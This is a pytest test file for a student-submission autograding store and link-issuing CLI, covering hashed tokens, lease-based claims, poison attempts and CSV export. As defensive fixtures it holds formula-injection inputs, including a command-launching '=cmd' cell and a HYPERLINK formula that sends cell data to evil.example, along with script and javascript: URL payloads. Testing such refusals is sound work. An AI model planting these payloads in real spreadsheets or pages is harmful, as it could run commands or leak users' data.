"""The submission service's store (autograde/attempts.py) and the students' links (`autograde serve
links`): tokens kept only as hashes, every read taking the student, claims with a lease that a dead
worker loses, a verdict written once, attempts that outlive the process. The claim race and the
restart, the poison attempts and the refusals run on SQLite and on a PostgreSQL server of the tests'
own (tests/postgres.py)."""

import csv
import hashlib
import inspect
import sqlite3
import threading
from datetime import UTC, datetime, timedelta

import pytest
from conftest import REPO
from sqlalchemy import create_engine, text

from autograde import attempts
from autograde.attempts import FAILED, GRADED, MAX_CLAIMS, QUEUED, RUNNING, Refusal, Store, StoreError, TooMany
from autograde.cli import main

T0 = datetime(2027, 1, 15, 9, 0, tzinfo=UTC)
TD1, TD3 = "td1_neurone_regression", "td3_mnist_softmax"
FILES = {"02_regression_lineaire.ipynb": b'{"cells": [], "nbformat": 4}', "01_neurone.ipynb": b"\x00\xff binary"}
RESULT = {"score": 6.5, "max_score": 8, "cells": [{"cell": "gradient", "points": 0, "message": "signe inversé"}]}
BACKENDS = ("sqlite", "postgresql")
LEASE = 60


def seconds(n: float) -> timedelta:
    return timedelta(seconds=n)


@pytest.fixture
def sqlite_url(tmp_path) -> str:
    return f"sqlite:///{tmp_path / 'service.db'}"


@pytest.fixture(params=BACKENDS)
def url(request, sqlite_url) -> str:
    return sqlite_url if request.param == "sqlite" else request.getfixturevalue("postgres_url")


@pytest.fixture
def store(sqlite_url):
    with Store(sqlite_url) as opened:
        yield opened


def open_with(url: str, *students: str) -> Store:
    opened = Store(url)
    opened.issue_tokens(students)
    return opened


# ---------------------------------------------------------------------------------- tokens
def test_a_token_names_its_student_and_a_changed_character_does_not(store):
    tokens = store.issue_tokens(["alice", "bruno"])
    assert store.student_for(tokens["alice"]) == "alice"
    assert store.student_for(tokens["bruno"]) == "bruno"
    token = tokens["alice"]
    for position in (0, len(token) // 2, len(token) - 1):
        changed = token[:position] + ("A" if token[position] != "A" else "B") + token[position + 1 :]
        assert store.student_for(changed) is None
    for malformed in ("", token[:-1], token + "A", token.upper() + "é", " " + token[1:], None, 42, token.encode()):
        assert store.student_for(malformed) is None


def test_only_a_hash_of_each_token_is_stored(store, sqlite_url, tmp_path):
    tokens = store.issue_tokens(["alice", "bruno"])
    store.close()
    with sqlite3.connect(sqlite_url.removeprefix("sqlite:///")) as database:
        rows = dict(database.execute("SELECT id, token_sha256 FROM students"))
    assert rows == {s: hashlib.sha256(token.encode()).hexdigest() for s, token in tokens.items()}
    # Nowhere in the database's files (its write-ahead log included), in any form.
    stored = b"".join(p.read_bytes() for p in tmp_path.glob("service.db*"))
    for token in tokens.values():
        assert token.encode() not in stored


def test_tokens_are_issued_once_unless_renewed_and_a_renewed_token_replaces_the_old(store):
    first = store.issue_tokens(["alice", "bruno"])
    assert store.issue_tokens(["alice", "bruno", "chloe"]).keys() == {"chloe"}
    renewed = store.issue_tokens(["alice", "bruno"], renew=["alice"])
    assert renewed.keys() == {"alice"} and renewed["alice"] != first["alice"]
    assert store.student_for(first["alice"]) is None
    assert store.student_for(renewed["alice"]) == "alice"
    assert store.student_for(first["bruno"]) == "bruno"


def test_tokens_that_could_not_be_delivered_are_not_stored(store):
    def lost(tokens):
        raise OSError("disk full")

    with pytest.raises(OSError):
        store.issue_tokens(["alice"], deliver=lost)
    assert store.issue_tokens(["alice"]).keys() == {"alice"}


def test_the_students_with_a_link_and_their_tokens_fingerprints(store):
    assert store.students() == []
    first = store.issue_tokens(["chloe", "alice", "bruno"])
    assert store.students() == ["alice", "bruno", "chloe"]
    fingerprints = {s: store.token_fingerprint(s) for s in first}
    for student, token in first.items():
        assert fingerprints[student] == hashlib.sha256(token.encode()).hexdigest()[: attempts.FINGERPRINT_HEX]
    assert len(set(fingerprints.values())) == 3
    assert store.token_fingerprint("mallory") is None
    renewed = store.issue_tokens([], renew=["alice"])
    assert store.token_fingerprint("alice") not in (None, fingerprints["alice"]), "a renewed link ends old sessions"
    assert store.token_fingerprint("alice") == hashlib.sha256(renewed["alice"].encode()).hexdigest()[:16]
    assert store.token_fingerprint("bruno") == fingerprints["bruno"]
    assert store.students() == ["alice", "bruno", "chloe"]


def test_an_unsafe_student_id_is_refused(store):
    with pytest.raises(StoreError, match="student id"):
        store.issue_tokens(["=cmd|' /C calc'!A0"])


# -------------------------------------------------------------------------------- attempts
def test_a_student_reads_only_their_own_attempts(store):
    store.issue_tokens(["alice", "bruno"])
    mine = store.add_attempt("alice", TD1, FILES, now=T0)
    theirs = store.add_attempt("bruno", TD1, {"02_regression_lineaire.ipynb": b"bruno"}, now=T0 + seconds(1))
    [seen] = store.attempts_of("alice")
    assert (seen.id, seen.student, seen.state, seen.files) == (mine, "alice", QUEUED, tuple(sorted(FILES)))
    assert [a.id for a in store.attempts_of("bruno", TD1)] == [theirs]
    assert store.attempts_of("bruno", TD3) == []
    assert store.attempt_of("bruno", mine) is None and store.files_of("bruno", mine) is None
    assert store.attempt_of("alice", mine) == seen and store.files_of("alice", mine) == FILES
    assert store.counts_since("bruno", TD1, T0 - seconds(1)).total == 1


# Every public method that could hand out an attempt, its files or its verdict takes the student; these
# alone do not, and none of them reads an attempt chosen by its id.
WITHOUT_A_STUDENT = {
    *("issue_tokens", "student_for", "students", "claim", "extend", "progress", "finish", "fail", "release"),
    *("queue_summary", "latencies", "workers_busy", "refusals"),
}


def test_every_read_of_an_attempt_takes_the_student():
    public = {name for name, _ in inspect.getmembers(Store, inspect.isfunction) if not name.startswith("_")}
    for name in public - WITHOUT_A_STUDENT - {"open_pool", "close"}:  # the connections, no attempt read
        assert "student" in inspect.signature(getattr(Store, name)).parameters, name
    for name in ("extend", "progress", "finish", "fail", "release"):
        assert inspect.signature(getattr(Store, name)).return_annotation == "bool", name


def test_an_attempt_of_an_unknown_student_or_without_files_is_refused(store):
    store.issue_tokens(["alice"])
    with pytest.raises(StoreError, match="not a student"):
        store.add_attempt("mallory", TD1, FILES)
    with pytest.raises(StoreError, match="at least one file"):
        store.add_attempt("alice", TD1, {})
    with pytest.raises(StoreError, match="zone"):
        store.add_attempt("alice", TD1, FILES, now=datetime(2027, 1, 15, 9, 0))
    assert store.attempts_of("alice") == [] and store.queue_summary() == {}


def test_each_attempt_draws_a_seed_of_its_own(store):
    store.issue_tokens(["alice"])
    ids = [store.add_attempt("alice", TD1, FILES, now=T0 + seconds(i)) for i in range(8)]
    seeds = [a.seed for a in store.attempts_of("alice")]
    assert [a.id for a in store.attempts_of("alice")] == ids
    assert len(set(seeds)) == len(seeds) and all(0 <= s < 2**attempts.SEED_BITS for s in seeds)


def test_the_limits_count_the_last_hour_and_all_attempts_and_refuse_without_writing(store):
    store.issue_tokens(["alice", "bruno"])
    for minutes in (0, 30, 90):
        store.add_attempt("alice", TD1, FILES, now=T0 + timedelta(minutes=minutes))
    store.add_attempt("alice", TD3, FILES, now=T0 + timedelta(minutes=91))
    store.add_attempt("bruno", TD1, FILES, now=T0 + timedelta(minutes=91))
    now = T0 + timedelta(minutes=95)
    counts = store.counts_since("alice", TD1, now - attempts.HOUR)
    assert (counts.since, counts.total) == (1, 3)
    with pytest.raises(TooMany) as refused:
        store.add_attempt("alice", TD1, FILES, now=now, per_hour=1)
    assert refused.value.which == "per_hour"
    with pytest.raises(TooMany) as refused:
        store.add_attempt("alice", TD1, FILES, now=now, per_hour=5, in_all=3)
    assert refused.value.which == "in_all"
    assert store.counts_since("alice", TD1, T0).total == 3
    store.add_attempt("alice", TD1, FILES, now=now, per_hour=2, in_all=4)
    assert store.counts_since("alice", TD1, T0).total == 4


# -------------------------------------------------------------------------------- claims
def test_a_claim_gives_the_oldest_queued_attempt_with_its_files(store):
    store.issue_tokens(["alice", "bruno"])
    later = store.add_attempt("alice", TD1, {"a.ipynb": b"later"}, now=T0 + seconds(2))
    oldest = store.add_attempt("bruno", TD1, FILES, now=T0)
    middle = store.add_attempt("alice", TD3, {"a.ipynb": b"middle"}, now=T0 + seconds(1))
    first = store.claim("w1", LEASE, now=T0 + seconds(3))
    assert first is not None
    assert (first.attempt.id, first.attempt.student, first.files) == (oldest, "bruno", FILES)
    assert (first.attempt.state, first.attempt.worker, first.attempt.claims) == (RUNNING, "w1", 1)
    assert first.attempt.lease_until == T0 + seconds(3 + LEASE)
    assert first.attempt.seed == store.attempt_of("bruno", oldest).seed
    second, third = store.claim("w2", LEASE, now=T0 + seconds(4)), store.claim("w1", LEASE, now=T0 + seconds(4))
    assert [second.attempt.id, third.attempt.id] == [middle, later]
    assert len({first.key, second.key, third.key}) == 3
    assert store.claim("w3", LEASE, now=T0 + seconds(5)) is None


def test_an_expired_lease_is_claimed_again_and_the_first_workers_verdict_is_refused(url):
    with open_with(url, "alice") as store:
        attempt = store.add_attempt("alice", TD1, FILES, now=T0)
        dead = store.claim("w1", LEASE, now=T0)
        assert store.claim("w2", LEASE, now=T0 + seconds(LEASE - 1)) is None  # w1 may still be grading
        again = store.claim("w2", LEASE, now=T0 + seconds(LEASE + 1))
        assert again.attempt.id == attempt and again.key != dead.key and again.files == FILES
        assert again.attempt.claims == 2
        assert not store.finish(attempt, dead.key, {"score": 0, "max_score": 8, "cells": []}, now=T0 + seconds(62))
        assert not store.fail(attempt, dead.key, "w1 gave up", now=T0 + seconds(62))
        assert not store.extend(attempt, dead.key, LEASE, now=T0 + seconds(62))
        [seen] = store.attempts_of("alice")
        assert (seen.state, seen.worker, seen.result, seen.error, seen.graded_at) == (RUNNING, "w2", None, None, None)
        assert store.finish(attempt, again.key, RESULT, now=T0 + seconds(90))
        [seen] = store.attempts_of("alice")
        assert (seen.state, seen.result, seen.graded_at) == (GRADED, RESULT, T0 + seconds(90))


def test_a_verdict_is_written_once(url):
    with open_with(url, "alice", "bruno") as store:
        graded = store.add_attempt("alice", TD1, FILES, now=T0)
        failed = store.add_attempt("bruno", TD1, FILES, now=T0 + seconds(1))
        first, second = store.claim("w1", LEASE, now=T0 + seconds(2)), store.claim("w2", LEASE, now=T0 + seconds(2))
        assert store.finish(graded, first.key, RESULT, now=T0 + seconds(10))
        assert not store.finish(graded, first.key, {**RESULT, "score": 8}, now=T0 + seconds(11))
        assert not store.fail(graded, first.key, "again", now=T0 + seconds(11))
        assert not store.finish(failed, first.key, RESULT), "a key opens only its own attempt"
        assert store.fail(failed, second.key, "le noyau est mort", now=T0 + seconds(12))
        assert not store.finish(failed, second.key, RESULT)
        assert store.claim("w3", LEASE, now=T0 + seconds(LEASE * 10)) is None, "a verdict is never claimed again"
        [alice] = store.attempts_of("alice")
        [bruno] = store.attempts_of("bruno")
        assert (alice.state, alice.result, alice.graded_at) == (GRADED, RESULT, T0 + seconds(10))
        assert (bruno.state, bruno.result, bruno.error) == (FAILED, None, "le noyau est mort")
        assert store.queue_summary() == {TD1: {QUEUED: 0, RUNNING: 0, GRADED: 1, FAILED: 1}}


def test_a_claim_given_back_is_queued_at_once_and_not_counted_as_a_crash(url):
    with open_with(url, "alice") as store:
        attempt = store.add_attempt("alice", TD1, FILES, now=T0)
        for _ in range(MAX_CLAIMS + 1):  # a service stopped cleanly again and again: never a poison attempt
            held = store.claim("w1", LEASE, now=T0)
            assert held is not None and held.attempt.id == attempt
            assert store.progress(attempt, held.key, "exécution")
            assert store.release(attempt, held.key)
            assert not store.release(attempt, held.key), "a claim is given back once"
            assert not store.finish(attempt, held.key, RESULT), "a claim given back writes no verdict"
        [seen] = store.attempts_of("alice")
        assert (seen.state, seen.worker, seen.lease_until, seen.progress, seen.claims) == (QUEUED, None, None, None, 0)
        last = store.claim("w2", LEASE, now=T0)  # at once, not after a lease
        assert store.finish(attempt, last.key, RESULT)
        assert not store.release(attempt, last.key), "a verdict is never given back"
        assert store.attempt_of("alice", attempt).state == GRADED


def test_a_lease_extended_by_its_worker_is_not_claimed_again(store):
    store.issue_tokens(["alice"])
    store.add_attempt("alice", TD1, FILES, now=T0)
    held = store.claim("w1", LEASE, now=T0)
    assert store.extend(held.attempt.id, held.key, LEASE, now=T0 + seconds(LEASE - 1))
    assert store.claim("w2", LEASE, now=T0 + seconds(LEASE + 1)) is None
    assert store.claim("w2", LEASE, now=T0 + seconds(2 * LEASE)) is not None


def test_a_running_claim_writes_its_progress_and_a_new_claim_starts_without(store):
    store.issue_tokens(["alice"])
    attempt = store.add_attempt("alice", TD1, FILES, now=T0)
    assert store.attempt_of("alice", attempt).progress is None
    first = store.claim("w1", LEASE, now=T0)
    assert first.attempt.progress is None
    assert store.progress(attempt, first.key, "01_neurone.ipynb : cellule 3 sur 7")
    assert store.attempt_of("alice", attempt).progress == "01_neurone.ipynb : cellule 3 sur 7"
    assert not store.progress(attempt, "not the key", "forged")
    assert store.progress(attempt, first.key, "x" * (attempts.PROGRESS_LENGTH + 50))
    assert store.attempt_of("alice", attempt).progress == "x" * attempts.PROGRESS_LENGTH
    assert store.attempt_of("alice", attempt).state == RUNNING
    second = store.claim("w2", LEASE, now=T0 + seconds(LEASE + 1))  # w1 died
    assert second.attempt.progress is None and store.attempt_of("alice", attempt).progress is None
    assert not store.progress(attempt, first.key, "w1 again"), "the dead worker's key writes nothing"
    assert store.finish(attempt, second.key, RESULT)
    assert not store.progress(attempt, second.key, "after the verdict")


def test_the_workers_busy_count_their_running_attempts(store):
    store.issue_tokens(["alice", "bruno", "chloe"])
    for i, student in enumerate(["alice", "bruno", "chloe"]):
        store.add_attempt(student, TD1, FILES, now=T0 + seconds(i))
    assert store.workers_busy() == {}
    held = [store.claim(w, LEASE, now=T0 + seconds(5)) for w in ("w1", "w2", "w1")]
    assert store.workers_busy() == {"w1": 2, "w2": 1}
    assert store.finish(held[0].attempt.id, held[0].key, RESULT)
    assert store.fail(held[1].attempt.id, held[1].key, "le noyau est mort")
    assert store.workers_busy() == {"w1": 1}


def test_an_attempt_whose_every_claim_ended_is_failed_and_never_handed_out_again(url):
    with open_with(url, "alice", "bruno") as store:
        poison = store.add_attempt("alice", TD1, FILES, now=T0)
        behind = store.add_attempt("bruno", TD1, FILES, now=T0 + seconds(1))
        moment, keys = T0 + seconds(2), []
        for claims in (1, 2, 3):
            held = store.claim(f"w{claims}", LEASE, now=moment)
            assert (held.attempt.id, held.attempt.claims) == (poison, claims)
            keys.append(held.key)
            moment += seconds(LEASE + 1)  # its worker died with it: the lease ends
        assert store.attempt_of("alice", poison).state == RUNNING, "failed by the next claim, not by time alone"
        after = store.claim("w4", LEASE, now=moment)
        assert after.attempt.id == behind, "the next attempt is handed out in the same call"
        seen = store.attempt_of("alice", poison)
        assert (seen.state, seen.error, seen.graded_at) == (FAILED, attempts.POISON_ERROR, moment)
        assert (seen.claims, seen.lease_until, seen.result) == (3, None, None)
        assert not store.finish(poison, keys[-1], RESULT), "the last worker's verdict comes too late"
        assert store.finish(behind, after.key, RESULT)
        assert store.claim("w5", LEASE, now=moment + timedelta(days=1)) is None
        assert store.attempt_of("alice", poison).state == FAILED


def test_max_claims_counts_the_claims_whose_lease_ended(url):
    with open_with(url, "alice", "bruno") as store:
        once = store.add_attempt("alice", TD1, FILES, now=T0)
        held = store.claim("w1", LEASE, now=T0, max_claims=1)
        # Its lease still runs: the worker may be grading it; nothing is failed.
        assert store.claim("w2", LEASE, now=T0 + seconds(LEASE - 1), max_claims=1) is None
        assert store.attempt_of("alice", once).state == RUNNING
        assert store.claim("w2", LEASE, now=T0 + seconds(LEASE + 1), max_claims=1) is None
        assert store.attempt_of("alice", once).error == attempts.POISON_ERROR
        assert not store.extend(once, held.key, LEASE)
        # With a higher bound, the same history is a worker's death, claimed again.
        again = store.add_attempt("bruno", TD1, FILES, now=T0 + seconds(1))
        store.claim("w1", LEASE, now=T0 + seconds(2), max_claims=2)
        assert store.claim("w2", LEASE, now=T0 + seconds(LEASE + 3), max_claims=2).attempt.id == again
        for wrong in (0, -1, True, 1.5):
            with pytest.raises(StoreError, match="max_claims"):
                store.claim("w1", LEASE, max_claims=wrong)


def test_an_attempt_and_its_claim_survive_a_restart(url):
    with open_with(url, "alice") as before:
        queued = before.add_attempt("alice", TD1, FILES, now=T0)
        running = before.add_attempt("alice", TD1, {"a.ipynb": b"second"}, now=T0 + seconds(1))
        held = before.claim("w1", LEASE, now=T0 + seconds(2))
        assert held.attempt.id == queued
        saved = before.attempts_of("alice")
    with Store(url) as after:  # a new process: a new engine, new connections
        assert after.attempts_of("alice") == saved
        assert after.files_of("alice", queued) == FILES
        assert after.claim("w2", LEASE, now=T0 + seconds(3)).attempt.id == running
        assert after.claim("w2", LEASE, now=T0 + seconds(4)) is None  # w1's lease holds across the restart
        assert after.finish(queued, held.key, RESULT, now=T0 + seconds(5))
        assert after.issue_tokens(["alice"]) == {}


def test_workers_claiming_at_once_each_get_a_different_attempt(url):
    count, workers = 24, 4
    with open_with(url, *(f"s{i}" for i in range(count))) as store:
        made = {store.add_attempt(f"s{i}", TD1, FILES, now=T0 + seconds(i)) for i in range(count)}
    claimed: dict[str, list[int]] = {}
    errors: list[BaseException] = []

    def work(name: str) -> None:
        try:
            with Store(url) as mine:
                while (held := mine.claim(name, LEASE, now=T0 + seconds(count))) is not None:
                    claimed.setdefault(name, []).append(held.attempt.id)
                    assert mine.finish(held.attempt.id, held.key, RESULT, now=T0 + seconds(count + 1))
        except Exception as error:  # noqa: BLE001 - a thread's failure is reported in the test's thread
            errors.append(error)

    threads = [threading.Thread(target=work, args=(f"w{i}",)) for i in range(workers)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    every = [i for ids in claimed.values() for i in ids]
    assert sorted(every) == sorted(made), "each attempt claimed exactly once"
    with Store(url) as store:
        assert store.queue_summary() == {TD1: {QUEUED: 0, RUNNING: 0, GRADED: count, FAILED: 0}}


def test_on_postgresql_a_claim_skips_the_attempt_another_worker_is_claiming(postgres_url):
    with open_with(postgres_url, "alice", "bruno") as store:
        locked = store.add_attempt("alice", TD1, FILES, now=T0)
        free = store.add_attempt("bruno", TD1, FILES, now=T0 + seconds(1))
        other = create_engine(postgres_url)
        found: list = []
        try:
            with other.begin() as claiming:  # another worker's claim, in the middle of its transaction
                claiming.execute(text("SELECT id FROM attempts WHERE id = :id FOR UPDATE"), {"id": locked})
                # Without SKIP LOCKED, the claim would wait for that transaction: a thread, so that a
                # regression fails the test instead of hanging it.
                thread = threading.Thread(target=lambda: found.append(store.claim("w2", LEASE, now=T0 + seconds(2))))
                thread.start()
                thread.join(timeout=60)
                assert not thread.is_alive(), "the claim waited for the locked attempt"
        finally:
            other.dispose()
        assert found[0].attempt.id == free


# ---------------------------------------------------------------------------------- teacher
def test_the_queue_summary_and_the_latencies(store):
    store.issue_tokens(["alice", "bruno", "chloe"])
    old = store.add_attempt("alice", TD1, FILES, now=T0 - timedelta(hours=2))
    graded = store.add_attempt("bruno", TD1, FILES, now=T0)
    other = store.add_attempt("chloe", TD1, FILES, now=T0 + seconds(5))
    store.add_attempt("alice", TD3, FILES, now=T0 + seconds(6))
    for attempt_id, verdict_at in ((old, T0 - timedelta(hours=2) + seconds(30)), (graded, T0 + seconds(40))):
        held = store.claim("w1", LEASE, now=verdict_at - seconds(1))
        assert held.attempt.id == attempt_id
        assert store.finish(attempt_id, held.key, RESULT, now=verdict_at)
    held = store.claim("w1", LEASE, now=T0 + seconds(50))
    assert held.attempt.id == other
    assert store.queue_summary() == {
        TD1: {QUEUED: 0, RUNNING: 1, GRADED: 2, FAILED: 0},
        TD3: {QUEUED: 1, RUNNING: 0, GRADED: 0, FAILED: 0},
    }
    assert store.finish(other, held.key, RESULT, now=T0 + seconds(65))
    assert store.latencies(T0 - attempts.HOUR) == [40.0, 60.0]
    assert store.latencies(T0 - timedelta(hours=3)) == [30.0, 40.0, 60.0]


def test_refused_uploads_are_recorded_as_given_and_read_newest_first(url):
    hostile = '<script>alert(1)</script> =HYPERLINK("x") {{ 7*7 }} %(x)s \x00 \udcff é'
    with open_with(url, "alice") as store:
        store.record_refusal("alice", TD1, "not_ipynb", "Le fichier « a.zip » n'est pas un notebook.", "a.zip", now=T0)
        store.record_refusal(None, TD1, "bad_link", "Ce lien n'est pas valide.", None, now=T0 + seconds(1))
        store.record_refusal("alice", TD3, "too_large", hostile * 100, hostile, now=T0 + seconds(2))
        store.record_refusal("alice", "x" * 1000, "other_td", "m", "f" * 1000, now=T0 + seconds(3))
        newest, hostile_one, no_link, first = store.refusals()
        assert first == Refusal("alice", TD1, "not_ipynb", "Le fichier « a.zip » n'est pas un notebook.", "a.zip", T0)
        assert (no_link.student, no_link.file, no_link.reason) == (None, None, "bad_link")
        # The student's text, unchanged but for the characters no database holds and its length.
        storable = hostile.replace("\x00", "\ufffd").replace("\udcff", "\ufffd")
        assert hostile_one.file == storable[: attempts.NAME_LENGTH]
        assert hostile_one.message == (storable * 100)[: attempts.MESSAGE_LENGTH]
        assert len(newest.assignment) == len(newest.file) == attempts.NAME_LENGTH
        assert [r.at for r in store.refusals(since=T0 + seconds(1))] == [T0 + seconds(s) for s in (3, 2, 1)]
        assert [r.reason for r in store.refusals(limit=2)] == ["other_td", "too_large"]
        assert store.refusals(since=T0 + seconds(4)) == []
        with pytest.raises(StoreError, match="reason"):
            store.record_refusal("alice", TD1, "", "m", None)
        with pytest.raises(StoreError, match="limit"):
            store.refusals(limit=0)
        assert len(store.refusals()) == 4, "a refused record changes nothing"
        assert store.attempts_of("alice") == [] and store.queue_summary() == {}


def test_a_store_needs_a_database_that_lasts(tmp_path):
    for url in ("sqlite://", "sqlite:///:memory:", "not a url"):
        with pytest.raises(StoreError):
            Store(url)
    with pytest.raises(StoreError, match="cannot open"):
        Store(f"sqlite:///{tmp_path / 'missing' / 'service.db'}")


# ------------------------------------------------------------------------------------ links
ROSTER = [
    ("e01", "Alice", "Martin", "alice.martin@univ.fr"),
    # No '"' inside a cell: read_roster's sniffed dialect does not read doubled quotes (reported).
    ("e02", "=HYPERLINK(CONCAT('https://evil.example/?',A1),'clic')", "Durand", "bruno@univ.fr"),
    ("e03", "Chloé", "@SUM(1+1)", "chloe@univ.fr"),
]
BASE = "https://notes.example.fr/"


def write_roster(path, people=ROSTER):
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "prénom", "nom", "email"])
        writer.writerows(people)
    return path


def serve_links(tmp_path, store_url, out, *more):
    roster = write_roster(tmp_path / "roster.csv")
    return main(
        ["--repo", str(REPO), "serve", "links", "--roster", str(roster), "--base-url", BASE, "--store", store_url,
         "--out", str(out), *more]
    )  # fmt: skip


def read_links(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def token_of(link: str) -> str:
    assert link.startswith(BASE.rstrip("/") + attempts.LINK_PATH), link
    return link.rsplit("/", 1)[1]


def test_serve_links_writes_one_link_per_student_with_no_formula(tmp_path, sqlite_url, capsys):
    out = tmp_path / "links.csv"
    assert serve_links(tmp_path, sqlite_url, out) == 0
    assert "3 link(s) issued" in capsys.readouterr().out
    rows = read_links(out)
    assert list(rows[0]) == list(attempts.LINK_COLUMNS)
    assert [(r["id"], r["email"]) for r in rows] == [(p[0], p[3]) for p in ROSTER]
    assert rows[1]["prénom"] == "'" + ROSTER[1][1] and rows[2]["nom"] == "'" + ROSTER[2][2]
    with Store(sqlite_url) as store:
        assert [store.student_for(token_of(r["lien"])) for r in rows] == ["e01", "e02", "e03"]
    assert len({r["lien"] for r in rows}) == 3
    assert out.stat().st_mode & 0o077 == 0, "each line opens a student's account: the teacher's eyes only"


def test_serve_links_again_issues_none_and_never_overwrites(tmp_path, sqlite_url, capsys):
    out = tmp_path / "links.csv"
    assert serve_links(tmp_path, sqlite_url, out) == 0
    written = out.read_bytes()
    capsys.readouterr()
    assert serve_links(tmp_path, sqlite_url, out) == 2
    assert "exists" in capsys.readouterr().err and out.read_bytes() == written
    assert serve_links(tmp_path, sqlite_url, tmp_path / "again.csv") == 0
    said = capsys.readouterr().out
    assert "No new link" in said and "3 student(s) already had a link" in said and "--renew" in said
    assert not (tmp_path / "again.csv").exists()
    with Store(sqlite_url) as store:
        assert [store.student_for(token_of(r["lien"])) for r in read_links(out)] == ["e01", "e02", "e03"]


def test_serve_links_renew_replaces_one_link(tmp_path, sqlite_url, capsys):
    assert serve_links(tmp_path, sqlite_url, tmp_path / "links.csv") == 0
    [old] = [r["lien"] for r in read_links(tmp_path / "links.csv") if r["id"] == "e02"]
    assert serve_links(tmp_path, sqlite_url, tmp_path / "unknown.csv", "--renew", "e99") == 2
    assert "e99" in capsys.readouterr().err and not (tmp_path / "unknown.csv").exists()
    assert serve_links(tmp_path, sqlite_url, tmp_path / "renewed.csv", "--renew", "e02") == 0
    [row] = read_links(tmp_path / "renewed.csv")
    assert row["id"] == "e02" and row["lien"] != old
    with Store(sqlite_url) as store:
        assert store.student_for(token_of(old)) is None
        assert store.student_for(token_of(row["lien"])) == "e02"


def test_serve_links_refuses_a_base_url_that_is_not_an_address(tmp_path, sqlite_url, capsys):
    roster = write_roster(tmp_path / "roster.csv")
    for base in ("notes.example.fr", "javascript:alert(1)", "https://notes.example.fr/?a=1"):
        code = main(["--repo", str(REPO), "serve", "links", "--roster", str(roster), "--base-url", base,
                     "--store", sqlite_url, "--out", str(tmp_path / "links.csv")])  # fmt: skip
        assert code == 2 and "base URL" in capsys.readouterr().err
    assert not (tmp_path / "links.csv").exists()


# ---------------------------------------------------------------------------------- a start
def test_a_started_store_holds_its_pool_of_connections_open(url):
    """The service opens the pool before it listens: the first burst of requests after a restart finds a
    connection each, where it would otherwise open them one by one (autograde.serve.warm_up)."""
    with Store(url) as opened:
        opened.engine.dispose()  # the schema's connection gone: an empty pool, as at a first request
        assert opened.engine.pool.checkedin() == 0
        opened.open_pool()
        assert opened.engine.pool.checkedin() == opened.engine.pool.size() >= 2
